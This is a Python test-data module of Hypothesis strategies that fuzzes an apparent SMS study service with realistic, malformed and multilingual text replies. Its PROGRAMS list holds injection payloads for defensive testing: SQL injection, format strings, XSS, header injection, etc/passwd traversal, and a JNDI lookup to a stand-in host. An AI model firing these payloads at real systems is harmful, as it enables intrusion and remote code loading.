"""What phones text: mixtures of what people mean, what they mistype, and what nobody would expect."""

from hypothesis import strategies as st

NAME = "Ludmila Zweistein"
ANSWER = "271828182"
"""A number nobody would text by chance, given as an answer."""

SECRETS = (NAME, "Zweistein", ANSWER)
"""What must be nowhere but in the contact data and the answers."""

AGREEING = [
    *["1"] * 6,
    "yes",
    "YES",
    "Oui",
    "oui.",
    " 1 ",
    "1.",
    "1)",
    "one",
    "un",
    "ok",
    "١",
    "۱",
    "１",
    "1️⃣",
    "¹",
]
REFUSING = ["2", "no", "Non", "NO!", "two", "deux", "nope", "٢", "２"]
NUMBERS = [
    *["12"] * 4,
    *[
        "0",
        "-5",
        "007",
        "12.5",
        "1e9",
        "½",
        "Ⅻ",
        "१२",
        "٣٤",
        "about 12",
        "10-15",
        "a dozen",
        "douze",
        "trente et un",
    ],
    *[ANSWER] * 2,
    *[
        "9" * 50,
        "9" * 1600,
        "1,000",
        "twenty-one",
        f"{ANSWER} I think",
        "between 5 and 10",
        "∞",
        "0x10",
        "NaN",
    ],
]
KEYWORDS = [
    *[
        "START",
        "START",
        "HELP",
        "BALANCE",
        "COUPONS",
        "AIDE",
        "Solde",
        "unstop",
        "coupons?",
        "info",
        "BALANCE please",
    ]
    * 2,
    *[
        "STOP",
        "stop.",
        "ARRÊT",
        "Arret",
        "please stop texting me",
        "remove me from this list",
        "END",
        "s t o p",
        "ЅTОP",
    ],
]
LANGUAGES = ["English", "FRANÇAIS", "français", "3", "日本語", "English/French"]
PROGRAMS = [
    "'; DROP TABLE participant; --",
    "1 OR 1=1",
    "%s%n%x%d %(text)s",
    "{study} {contact} {0} {__class__} {number!r}",
    "${jndi:ldap://203.0.113.1/a}",
    "{{7*7}} <script>alert(1)</script> ]]></Body>",
    "<?xml version='1.0'?><Response><Message>hi</Message></Response>",
    "Subject: x\r\nX-Header: y\r\n\r\n",
    "../../etc/passwd\x00.txt",
    "\\x00 \\u0000 $1 $$ E'\\\\'",
]
STRANGE = [
    "",
    " ",
    "\n\n\n",
    "\x00",
    "1\x00",
    "\x1b[2J\x07\x08\x7f",
    "\ud83d",
    "\udc00\ud800 1",
    "👍",
    "👩‍👩‍👧‍👦" * 40,
    "🏳️‍🌈 oui",
    "‮1 txet",
    "مرحبا ١٢",
    "שלום 2",
    "Z" + "\u0337\u0338\u0360" * 200,
    "\ufeff1\u200b\u200d",
    "ΑΒΓΔΕΖ ΗΙΚ",
    "ﬁne ﬀ ſ ıİ",
    "ﷺ" * 100,
    "x" * 1600,
    "é" * 1600,
    "1 " * 800,
    "x" * 10_000,
    "CODE " * 320,
    "0" * 1600,
    "".join(map(chr, range(1, 160))),
]
SAYINGS = [
    "hello",
    "who is this?",
    "I texted 1 already",
    f"I am {NAME} and I live at 12 Example Street",
    f"this is {NAME}. stop texting me",
    "call me on +1 416 555 0142 please",
    "code",
    "my code is",
    "Is my boss told? " * 20,
]

ANSWERS = st.sampled_from([*AGREEING * 3, *REFUSING, *NUMBERS, *LANGUAGES])
ANYTHING = st.one_of(
    st.sampled_from(KEYWORDS),
    st.sampled_from(PROGRAMS),
    st.sampled_from(STRANGE),
    st.sampled_from(SAYINGS),
    st.text(max_size=40),
    st.text(st.characters(categories=["Nd", "Nl", "No", "Zs", "Cf", "Mn"]), max_size=12),
    st.text("0123456789CFHJKMNPQRTWX- OIl", min_size=7, max_size=13),
)
WORDS = st.one_of(ANSWERS, ANSWERS, ANYTHING)

HANDWRITINGS = [
    "{}",
    "code: {}.",
    "my code is {} thanks",
    "{} {}",
    " {}\n",
    "«{}»",
    "‮{}",
    "{}\x00",
    "STOP {}",
    "{} 12",
]


@st.composite
def written(draw, code: str) -> str:
    """Write a code down as people do, sometimes with a slip."""
    code = draw(st.sampled_from([code, code, code.lower(), f"{code[:5]}-{code[5:]}", " ".join(code)]))
    if draw(st.integers(0, 5)) == 0:
        place = draw(st.integers(0, len(code) - 1))
        code = code[:place] + draw(st.sampled_from("0OI1CФХ-7é")) + code[place + 1 :]
    return draw(st.sampled_from([HANDWRITINGS[0], *HANDWRITINGS])).replace("{}", code)
